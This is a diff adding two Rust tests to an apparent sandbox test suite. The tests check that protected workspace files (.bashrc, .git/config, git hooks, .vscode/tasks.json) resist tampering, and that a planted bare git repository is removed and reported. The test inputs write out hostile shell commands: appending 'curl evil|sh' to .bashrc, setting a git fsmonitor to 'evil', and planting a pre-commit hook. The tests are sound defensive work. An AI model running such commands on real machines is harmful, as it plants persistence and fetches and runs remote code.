@@ -432,3 +432,53 @@ fn deny_read_hides_secrets_and_allow_read_reopens() {
         "a hidden directory took a write"
     );
 }
+
+#[test]
+fn protected_files_in_the_workspace_stay_unchanged() {
+    let Some(sb) = Sandbox::new() else { return };
+    std::fs::create_dir_all(sb.ws.join(".git/hooks")).expect("mkdir");
+    std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir");
+    std::fs::write(sb.ws.join(".git/config"), "[core]\n").expect("write");
+    std::fs::write(sb.ws.join(".bashrc"), "# mine\n").expect("write");
+    std::fs::create_dir_all(sb.ws.join(".vscode")).expect("mkdir");
+    let o = sb.sh(
+        "echo 'curl evil|sh' >> .bashrc; echo '[core] fsmonitor=evil' >> .git/config; \
+         printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit; echo '{}' > .vscode/tasks.json; \
+         rm -f .bashrc; mv .git/config .git/config.old; echo blob > .git/objects/new; echo done",
+    );
+    assert!(stdout(&o).contains("done"), "{}", stderr(&o));
+    assert_eq!(
+        std::fs::read_to_string(sb.ws.join(".bashrc")).expect("read"),
+        "# mine\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(sb.ws.join(".git/config")).expect("read"),
+        "[core]\n"
+    );
+    assert!(
+        !sb.ws.join(".git/hooks/pre-commit").exists(),
+        "a hook was planted"
+    );
+    assert!(
+        !sb.ws.join(".vscode/tasks.json").exists(),
+        "an editor task was planted"
+    );
+    assert!(
+        sb.ws.join(".git/objects/new").exists(),
+        "git's objects must stay writable"
+    );
+}
+
+#[test]
+fn a_planted_bare_repository_is_removed_and_reported() {
+    let Some(sb) = Sandbox::new() else { return };
+    let o = sb.sh("mkdir -p objects refs/heads && echo 'ref: refs/heads/main' > HEAD && printf '[core]\\n\\tfsmonitor = evil\\n' > config");
+    assert!(
+        stderr(&o).contains("planted a bare git repository"),
+        "{}",
+        stderr(&o)
+    );
+    for name in ["HEAD", "objects", "refs", "config"] {
+        assert!(!sb.ws.join(name).exists(), "{name} was left behind");
+    }
+}
